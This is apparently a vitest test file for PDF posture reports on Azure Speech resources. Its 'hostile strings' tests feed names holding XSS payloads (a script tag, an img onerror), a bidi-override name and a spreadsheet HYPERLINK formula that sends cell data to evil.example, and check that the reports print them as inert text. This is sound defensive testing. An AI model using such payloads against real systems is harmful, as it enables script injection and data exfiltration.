import { spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import { readFileSync, statSync } from "node:fs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { CATALOG } from "@/lib/posture/controls";
import type { ExceptionRule } from "@/lib/posture/exceptions";
import type { ScanResult } from "@/lib/posture/result";
import { resultSha256 } from "@/lib/report/canonical";
import { exportText, renderExport } from "@/lib/report/export";
import type { ReportInput } from "@/lib/report/model";
import { idKey } from "@/lib/posture/ids";
import { ReportScopeError } from "@/lib/report/scope";
import { tenantFixture, type Fixture } from "@/lib/report/testing/fixture";
import { PdfFile, squash } from "@/lib/report/testing/poppler";
import { renderResourcePdf, renderSubscriptionPdf, renderTenantPdf } from "./index";

const GENERATED_AT = new Date("2026-11-28T12:00:00Z");
const files: PdfFile[] = [];
afterAll(() => files.forEach((f) => f.dispose()));

function open(bytes: Buffer): PdfFile {
  const f = new PdfFile(bytes);
  files.push(f);
  return f;
}

/** The text of the pages an outline item covers (up to the next item at the same or a higher level). */
function sectionText(pdf: PdfFile, pages: string[], title: string): string {
  const outline = pdf.outline();
  const i = outline.findIndex((o) => o.title === title);
  expect(i, `outline item ${title}`).toBeGreaterThanOrEqual(0);
  const next = outline.slice(i + 1).find((o) => o.depth <= outline[i].depth);
  const last = next ? Math.max(outline[i].page, next.page - 1) : pages.length;
  return pages.slice(outline[i].page - 1, last).join("\n");
}

let fx: Fixture;
let input: ReportInput;
let sub: ScanResult["subscriptions"][number];
let muted: ScanResult["findings"][number];
let newFailure: ScanResult["findings"][number];

beforeAll(() => {
  const base = tenantFixture({ accounts: 30, subscriptions: 3 });
  sub = [...base.result.subscriptions].sort((a, b) => b.resources - a.resources)[0];
  const inSub = base.result.findings.filter((f) => idKey(f.subscriptionId) === idKey(sub.subscriptionId));
  const toMute = inSub.filter((f) => f.status === "fail")[1];
  const rule: ExceptionRule = {
    id: "ex-1",
    controlId: toMute.controlId,
    resourceId: toMute.resourceId,
    owner: "dana.owner@example.com",
    reason: "Custom neural voice needs the storage firewall open until March",
    expiresAt: "2027-03-31",
  };
  fx = tenantFixture({
    accounts: 30,
    subscriptions: 3,
    exceptions: [rule],
    mutateSnapshot: (s) => {
      s.errors.push({
        scope: `/subscriptions/${sub.subscriptionId}`,
        source: "diagnosticSettings",
        reason: "access_denied",
        code: "AuthorizationFailed",
        message: "The client does not have authorization",
      });
    },
  });
  muted = fx.result.findings.find((f) => f.muted)!;
  newFailure = fx.result.findings.find((f) => f.status === "fail" && idKey(f.subscriptionId) === idKey(sub.subscriptionId) && !f.muted)!;
  const previous = {
    ...fx.result,
    scan: { ...fx.result.scan, id: "scan-0000", finishedAt: "2026-11-21T10:00:00.000Z" },
    findings: fx.result.findings.map((f) => (f === newFailure ? { ...f, status: "pass" as const } : f)),
  };
  input = { result: fx.result, snapshot: fx.snapshot, previous, generatedAt: GENERATED_AT };
});

describe("tenant PDF", () => {
  let pdf: PdfFile;
  let pages: string[];
  beforeAll(async () => {
    pdf = open(await renderTenantPdf(input));
    pages = pdf.pages();
  });

  it("has a cover naming the tenant, the scan and the score", () => {
    const cover = pages[0];
    expect(cover).toContain(fx.result.scan.tenantId!);
    expect(cover).toContain("scan-0001");
    expect(fx.result.summary.score).not.toBeNull();
    expect(squash(cover)).toContain(`Score${fx.result.summary.score}of100`);
    expect(cover).toContain("Tenant score");
    expect(squash(cover)).toContain(squash(`${fx.result.summary.counts.fail} fail`));
    expect(squash(cover)).toContain(squash("Origin collected by this dashboard"));
  });

  it("for an estate, scores and lists each tenant on its own, its subscriptions under it", async () => {
    const [first, ...rest] = [...fx.result.subscriptions].sort((a, b) => a.subscriptionId.localeCompare(b.subscriptionId));
    const tenant = (tenantId: string, displayName: string | null, subs: typeof rest) => ({
      tenantId,
      displayName,
      subscriptionIds: subs.map((s) => s.subscriptionId),
      resources: subs.reduce((n, s) => n + s.resources, 0),
      score: subs[0].score,
      counts: { pass: 1, fail: 2, unknown: 3, not_applicable: 4 },
    });
    const tenants = [tenant("11111111-1111-4111-8111-111111111111", "Contoso", [first]), tenant("22222222-2222-4222-8222-222222222222", null, rest)];
    const estate = open(await renderTenantPdf({ ...input, tenants }));
    const text = estate.pages();
    expect(text[0]).toContain("Estate of 2 tenants");
    expect(text[0]).toContain("Estate score");
    expect(estate.info().fields.Title).toBe("Estate data-protection report: Estate of 2 tenants");
    expect(squash(text[0])).toContain(squash("Contoso (11111111-1111-4111-8111-111111111111), 22222222-2222-4222-8222-222222222222"));
    const titles = estate.outline().map((o) => o.title);
    const section = titles.find((t) => /^\d+\. Tenants and subscriptions$/.test(t))!;
    expect(section).toBeDefined();
    expect(titles).toContain(`Tenant Contoso (11111111-1111-4111-8111-111111111111) · score ${first.score ?? "n/a"}`);
    const body = sectionText(estate, text, section);
    // Each tenant's subscriptions are listed under it: the first tenant's table holds only its one subscription.
    // (Tenants come lowest score first, so the other tenant's part may come before or after.)
    const start = body.indexOf("Tenant Contoso (");
    const other = body.indexOf("Tenant 22222222-2222-4222-8222-222222222222");
    expect(Math.min(start, other)).toBeGreaterThanOrEqual(0);
    const contosoPart = body.slice(start, other > start ? other : undefined);
    // (A long ID wraps onto a second line rather than being cut.)
    expect(squash(contosoPart)).toContain(first.subscriptionId);
    for (const s of rest) expect(squash(contosoPart)).not.toContain(s.subscriptionId);
    expect(squash(body)).toContain(squash(`${rest.length} subscriptions, lowest score first`));
    // Without tenants (one tenant) the report is as before.
    expect(pages.join("\n")).not.toContain("Tenants and subscriptions");
  });

  it("says an exception scoped to a tenant applies to every subscription of that tenant", async () => {
    const tenantRule = {
      id: "ex-t",
      tenantId: "33333333-3333-4333-8333-333333333333",
      controlId: "NET-1",
      owner: "t@example.com",
      reason: "r",
      expiresAt: "2099-01-01",
    };
    const result = {
      ...fx.result,
      exceptions: { active: [...(fx.result.exceptions?.active ?? []), tenantRule], expired: fx.result.exceptions?.expired ?? [] },
    };
    const text = squash(open(await renderTenantPdf({ ...input, result })).text());
    expect(text).toContain(squash("Applies to every subscription of tenant 33333333-3333-4333-8333-333333333333"));
  });

  it("marks an imported snapshot on the cover", async () => {
    const imported = { ...fx.result, scan: { ...fx.result.scan, source: "snapshot" as const } };
    const cover = open(await renderResourcePdf({ ...input, result: imported, previous: undefined }, newFailure.resourceId)).pages()[0];
    expect(squash(cover)).toContain(squash("Origin IMPORTED from an uploaded snapshot file, not collected from Azure by this dashboard"));
  });

  it("says Azure's verdicts were not collected when no finding has them", () => {
    const section = squash(sectionText(pdf, pages, "6. Reconciliation with Azure Policy and Defender for Cloud"));
    expect(section).toContain(squash("Azure's own verdicts (Azure Policy compliance states and Defender for Cloud assessments) were not collected"));
    expect(section).not.toContain(squash("Findings by control and agreement"));
  });

  it("prints the SHA-256 of the JSON export", () => {
    const json = exportText(renderExport("json", fx.result));
    const sha = createHash("sha256").update(json, "utf8").digest("hex");
    expect(sha).toBe(resultSha256(fx.result));
    expect(pages[0]).toContain(sha);
  });

  it("numbers every page 'Page X of Y' with Y the real page count", () => {
    const { pages: count } = pdf.info();
    expect(count).toBeGreaterThan(20);
    expect(pages).toHaveLength(count);
    expect(pages[count - 1]).toContain(`Page ${count} of ${count}`);
    pages.forEach((text, i) => expect(text, `page ${i + 1}`).toContain(`Page ${i + 1} of ${count}`));
  });

  it("sets the document information", () => {
    const { fields } = pdf.info();
    expect(fields.Title).toBe(`Tenant data-protection report: Tenant ${fx.result.scan.tenantId}`);
    expect(fields.Author).toBe("Speech Posture");
    expect(fields.Subject).toContain(resultSha256(fx.result));
    expect(fields.CreationDate).toMatch(/2026/);
    expect(fields.JavaScript).toBe("no");
  });

  it("has an outline with every section and one item per control, pointing at its page", () => {
    const outline = pdf.outline();
    const titles = outline.map((o) => o.title);
    for (const t of [
      "Cover",
      "Contents",
      "1. Executive summary",
      "2. Controls",
      "3. Encryption state per resource",
      "4. Subscriptions",
      "5. Muted findings and exceptions",
      "6. Reconciliation with Azure Policy and Defender for Cloud",
      "7. Appendix: method",
    ]) {
      expect(titles).toContain(t);
    }
    for (const c of CATALOG) {
      const item = outline.find((o) => o.title === `${c.id} ${c.title}`);
      expect(item, c.id).toBeDefined();
      expect(item!.depth).toBe(2);
      expect(squash(pages[item!.page - 1])).toContain(squash(`${c.id} ${c.title}`));
    }
    const pageNumbers = outline.filter((o) => o.depth === 1).map((o) => o.page);
    expect([...pageNumbers].sort((a, b) => a - b)).toEqual(pageNumbers);
  });

  it("lists every resource in the compact encryption table, with its chain statuses", () => {
    const section = sectionText(pdf, pages, "3. Encryption state per resource");
    for (const r of fx.result.resources) expect(section, r.name).toContain(r.name);
    expect(section).toContain("BYOS-1");
    expect(section).toMatch(/✗ FAIL/);
  });

  it("shows what changed since the previous scan", () => {
    const summary = squash(sectionText(pdf, pages, "1. Executive summary"));
    expect(summary).toContain(squash("Compared with scan scan-0000"));
    expect(summary).toContain(squash("1 new failure, 0 resolved failures"));
  });

  it("renders the first pages to non-trivial PNG images", () => {
    const pngs = pdf.png(1, 3);
    expect(pngs).toHaveLength(3);
    for (const p of pngs) {
      expect(readFileSync(p).subarray(0, 8).toString("hex")).toBe("89504e470d0a1a0a");
      expect(statSync(p).size).toBeGreaterThan(15_000);
    }
  });
});

describe("subscription PDF", () => {
  let pdf: PdfFile;
  let pages: string[];
  beforeAll(async () => {
    pdf = open(await renderSubscriptionPdf(input, sub.subscriptionId));
    pages = pdf.pages();
  });

  it("has a cover naming the subscription and its score", () => {
    const entry = fx.result.subscriptions.find((s) => s.subscriptionId === sub.subscriptionId)!;
    expect(pages[0]).toContain(sub.subscriptionId);
    expect(pages[0]).toContain(sub.displayName!);
    expect(squash(pages[0])).toContain(`Score${entry.score}of100`);
    expect(pages[0]).toContain("Subscription score");
  });

  it("prints the hash of the whole scan and of this subscription's JSON export", () => {
    const body = exportText(renderExport("json", fx.result, { subscriptionId: sub.subscriptionId }));
    expect(pages[0]).toContain(createHash("sha256").update(body, "utf8").digest("hex"));
    expect(pages[0]).toContain(resultSha256(fx.result));
  });

  it("lists every failing finding of the subscription under its control, and none of other subscriptions", () => {
    const failing = fx.result.findings.filter((f) => f.status === "fail" && idKey(f.subscriptionId) === idKey(sub.subscriptionId));
    expect(failing.length).toBeGreaterThan(5);
    const byControl = new Map<string, string>();
    for (const c of CATALOG) byControl.set(c.id, squash(sectionText(pdf, pages, `${c.id} ${c.title}`)));
    for (const f of failing) {
      const section = byControl.get(f.controlId)!;
      expect(section, `${f.controlId} ${f.resourceId}`).toContain(squash(f.message));
      expect(section, `${f.controlId} ${f.resourceId}`).toContain(squash(f.resourceId));
    }
    const others = fx.result.resources.filter((r) => idKey(r.subscriptionId) !== idKey(sub.subscriptionId));
    expect(others.length).toBeGreaterThan(0);
    const all = squash(pages.join("\n"));
    for (const r of others) expect(all).not.toContain(squash(r.id));
  });

  it("shows the evidence and remediation of a failing finding", () => {
    const f = fx.result.findings.find((x) => x.status === "fail" && idKey(x.subscriptionId) === idKey(sub.subscriptionId) && x.evidence.length > 0)!;
    const control = CATALOG.find((c) => c.id === f.controlId)!;
    const section = squash(sectionText(pdf, pages, `${control.id} ${control.title}`));
    expect(section).toContain(squash(f.evidence[0].path));
    expect(section).toContain("AzureCLI");
    expect(section).toContain("Bicep");
    expect(section).toContain(squash(control.remediation.portal[0]));
  });

  it("draws each resource's chain with statuses in words", () => {
    const section = sectionText(pdf, pages, "3. Encryption state per resource");
    const resources = fx.result.resources.filter((r) => idKey(r.subscriptionId) === idKey(sub.subscriptionId));
    for (const r of resources) expect(section).toContain(r.name);
    expect(section.match(/SPEECH RESOURCE/g)?.length).toBe(resources.length);
    expect(section).toMatch(/(✓ PASS|✗ FAIL) · CMK-1/);
    expect(section).toMatch(/Public network access/);
    expect(section).toMatch(/STORAGE ACCOUNT \(BYOS\)|NO CUSTOMER-OWNED STORAGE/);
  });

  it("names the exception behind a muted finding, and the errors the scan recorded", () => {
    const section = squash(sectionText(pdf, pages, "4. Muted findings and exceptions"));
    expect(section).toContain("dana.owner@example.com");
    expect(section).toContain(squash("2027-03-31"));
    expect(section).toContain(muted.controlId);
    const appendix = squash(sectionText(pdf, pages, "6. Appendix: method"));
    expect(appendix).toContain("AuthorizationFailed");
    expect(appendix).toContain(squash("access denied"));
  });

  it("has 'Page X of Y' right on the last page", () => {
    const { pages: count } = pdf.info();
    expect(pages[count - 1]).toContain(`Page ${count} of ${count}`);
  });

  it("refuses a subscription that is not in the scan", async () => {
    await expect(renderSubscriptionPdf(input, "11111111-2222-3333-4444-555555555555")).rejects.toBeInstanceOf(ReportScopeError);
  });
});

describe("a previous scan judged with catalogue version 1", () => {
  it("is compared, and the changes of controls whose rules changed are marked as rule changes", async () => {
    const failing = fx.result.findings.find((f) => f.controlId === "NET-1" && f.status === "fail")!;
    const resource = fx.result.resources.find((r) => r.id === failing.resourceId)!;
    const current = { ...fx.result, scan: { ...fx.result.scan, catalogVersion: 2 } };
    const previous = {
      ...fx.result,
      scan: { ...fx.result.scan, id: "scan-v1", finishedAt: "2026-11-21T10:00:00.000Z", catalogVersion: 1 },
      findings: fx.result.findings.map((f) => (f === failing ? { ...f, status: "pass" as const } : f)),
    };
    const pdf = open(await renderResourcePdf({ ...input, result: current, previous }, resource.id));
    const summary = squash(sectionText(pdf, pdf.pages(), "1. Executive summary"));
    expect(summary).toContain(squash("Compared with scan scan-v1"));
    expect(summary).toContain(squash("The previous scan was judged with control catalogue version 1, this one with version 2"));
    expect(summary).toContain(squash("was pass (rule change)"));
  });
});

describe("resource PDF", () => {
  it("covers one resource: its chain and every control's finding", async () => {
    const resource = fx.result.resources.find((r) => idKey(r.subscriptionId) === idKey(sub.subscriptionId))!;
    const pdf = open(await renderResourcePdf(input, resource.id.toUpperCase()));
    const pages = pdf.pages();
    expect(squash(pages[0])).toContain(squash(resource.id));
    expect(squash(pages[0])).toContain(`Score${resource.score}of100`);
    const findings = fx.result.findings.filter((f) => f.resourceId === resource.id);
    expect(findings).toHaveLength(CATALOG.length);
    for (const f of findings) {
      const c = CATALOG.find((x) => x.id === f.controlId)!;
      expect(squash(sectionText(pdf, pages, `${c.id} ${c.title}`))).toContain(squash(f.message));
    }
    expect(pages[pages.length - 1]).toContain(`Page ${pages.length} of ${pages.length}`);
  });
});

describe("hostile strings", () => {
  const LONG = `speech-${"x".repeat(380)}-end`;
  const NAMES = [
    '<script>alert("pwned")</script>',
    '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "Распознавание-речи-中文-العربية",
    "\u202Eevil\u202C-name\u200B",
    LONG,
    "line\nbreak\ttab\u0000nul",
  ];
  let hostile: Fixture;
  let hostileSub: string;

  beforeAll(() => {
    hostile = tenantFixture({
      accounts: 12,
      subscriptions: 1,
      mutate: (tenant) => {
        const accounts = tenant.resources.filter(
          (d) => d.type?.toLowerCase() === "microsoft.cognitiveservices/accounts" && /speech|aiservices|cognitiveservices/i.test(String(d.kind)),
        );
        NAMES.forEach((name, i) => (accounts[i].name = name));
        tenant.subscriptions[0].displayName = "<img src=x onerror=alert(1)> 📦 =1+1";
      },
    });
    hostileSub = hostile.result.subscriptions[0].subscriptionId;
  });

  it("renders every report without error and prints names as inert text", async () => {
    const reportInput: ReportInput = { result: hostile.result, snapshot: hostile.snapshot, generatedAt: GENERATED_AT };
    const tenant = open(await renderTenantPdf(reportInput));
    const subscription = open(await renderSubscriptionPdf(reportInput, hostileSub));
    const longResource = hostile.result.resources.find((r) => r.name === LONG)!;
    const resource = open(await renderResourcePdf(reportInput, longResource.id));
    for (const pdf of [tenant, subscription, resource]) expect(pdf.info().fields.JavaScript).toBe("no");

    const text = subscription.text();
    expect(text).toContain('<script>alert("pwned")</script>');
    expect(text).toContain('=HYPERLINK("http://evil.example/?q="&A1,"click")');
    expect(text).toContain("Распознавание-речи");
    expect(text).toContain("[U+4E2D U+6587]");
    expect(text).toContain("[U+202E]evil[U+202C]-name[U+200B]");
    expect(text).toContain("line break tab[U+0000]nul");
    expect(squash(text)).toContain(LONG);
    expect(tenant.text(1, 1)).not.toContain("\u202E");
    expect(tenant.text()).toContain("<img src=x onerror=alert(1)>");
  });

  it("keeps every word inside the page, however long the name", async () => {
    const pdf = open(await renderSubscriptionPdf({ result: hostile.result, snapshot: hostile.snapshot, generatedAt: GENERATED_AT }, hostileSub));
    const out = spawnSync("pdftotext", ["-bbox", pdf.path, "-"], { encoding: "utf8", maxBuffer: 64 * 1024 * 1024 }).stdout;
    const words = [...out.matchAll(/<word xMin="([\d.]+)" yMin="([\d.]+)" xMax="([\d.]+)" yMax="([\d.]+)">/g)];
    expect(words.length).toBeGreaterThan(1000);
    for (const w of words) {
      expect(Number(w[1])).toBeGreaterThanOrEqual(0);
      expect(Number(w[3])).toBeLessThanOrEqual(595.3);
    }
  });
});

describe("odd results", () => {
  it("renders a result with missing, null and unexpected values without failing", async () => {
    const base = tenantFixture({ accounts: 6, subscriptions: 1 });
    const r = base.result as unknown as Record<string, unknown> & {
      findings: Record<string, unknown>[];
      resources: Record<string, unknown>[];
      subscriptions: Record<string, unknown>[];
    };
    const odd = {
      ...r,
      scan: { id: "odd", startedAt: null, finishedAt: "not a date", source: undefined, tenantId: null, catalogVersion: 1 },
      summary: { score: null, resources: 0, counts: { pass: 0, fail: 0, unknown: 0, not_applicable: 0 } },
      subscriptions: [{ ...r.subscriptions[0], displayName: null, score: null, counts: undefined }],
      resources: r.resources.map((x, i) => (i === 0 ? { ...x, name: "", location: null, resourceGroup: null, kind: null, score: null } : x)),
      findings: [
        ...r.findings.map((f, i) =>
          i === 0 ? { ...f, evidence: [{ path: "p", actual: { deep: { deeper: [1, 2, { x: "<b>" }] } }, expected: undefined }] } : f,
        ),
        {
          controlId: "XYZ-9",
          resourceId: "/nowhere",
          subscriptionId: r.subscriptions[0].subscriptionId,
          severity: "critical",
          status: "weird",
          reason: null,
          muted: false,
          message: "",
          evidence: [],
        },
      ],
      errors: [{ scope: "/", source: "resourceGraph" }],
    };
    const input = { result: odd as unknown as ReportInput["result"], generatedAt: GENERATED_AT };
    for (const bytes of [
      await renderTenantPdf(input),
      await renderSubscriptionPdf(input, r.subscriptions[0].subscriptionId as string),
      await renderResourcePdf(input, r.resources[1].id as string),
    ]) {
      const pdf = open(bytes);
      const { pages } = pdf.info();
      expect(pages).toBeGreaterThan(3);
      expect(pdf.text(pages, pages)).toContain(`Page ${pages} of ${pages}`);
    }
  });
});
